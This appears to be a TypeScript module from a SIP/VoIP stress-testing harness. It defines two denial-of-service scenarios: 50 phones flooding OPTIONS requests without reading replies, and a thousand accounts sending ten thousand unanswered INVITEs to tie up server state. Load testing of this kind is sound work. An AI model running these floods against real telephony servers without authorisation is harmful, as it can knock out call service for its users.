import type { Phone } from '../generator/phone.ts';
import { type Attack, type Battle, drained, goesOn, pause, together } from './attack.ts';
import { attackingFlow } from './attacking-phone.ts';
import { inviteText } from './invite-flood.ts';

/** As many as one terminal may have. */
const CALLS_EACH = 10;
/** A second: a server that is asked by a thousand accounts at once is not flooded but busy. */
const CALLERS = 150;
/** Until all are there. */
const ONSET_MS = 9_000;

/** Every account calls ten others, and no phone of any of them says anything, not even that it has been asked. */
async function unanswered(battle: Battle): Promise<void> {
  const { accounts, tally } = battle;
  const phones: Phone[] = [];
  await together(accounts, async (account) => {
    const phone = await attackingFlow(account, battle);
    if (phone !== undefined) phones.push(phone);
  });
  for (const [index, phone] of phones.entries()) {
    for (let next = 1; next <= CALLS_EACH && goesOn(battle); next++) {
      phone.send(inviteText(phone, accounts[(index + next) % accounts.length]?.user ?? ''));
      tally.sent('INVITE');
    }
    await pause(1_000 / CALLERS);
  }
  while (goesOn(battle)) await pause(50);
  for (const phone of phones) phone.cut();
}

/** Phones that ask for much and take no answer. */
async function slowReaders(battle: Battle): Promise<void> {
  const { accounts, tally, target } = battle;
  await together(accounts.slice(0, 50), async (account) => {
    while (goesOn(battle)) {
      const phone = await attackingFlow(account, battle);
      if (phone === undefined) return;
      phone.stopReading();
      for (let count = 0; goesOn(battle) && phone.connected; count++) {
        phone.send(
          inviteText(phone, '99999')
            .replace(/^INVITE \S+/, `OPTIONS sip:${target.domain}`)
            .replace('1 INVITE', '1 OPTIONS'),
        );
        tally.sent('OPTIONS');
        await drained(phone, battle);
      }
      phone.cut();
    }
  });
}

export const SILENCES: readonly Attack[] = [
  {
    name: 'slow-readers',
    alone: true,
    what: '50 phones send OPTIONS without a pause and take no answer',
    run: slowReaders,
  },
  {
    name: 'unanswered',
    alone: true,
    what: 'ten thousand INVITEs between a thousand phones that answer nothing; others are measured while these wait',
    onsetMs: ONSET_MS,
    run: unanswered,
  },
];
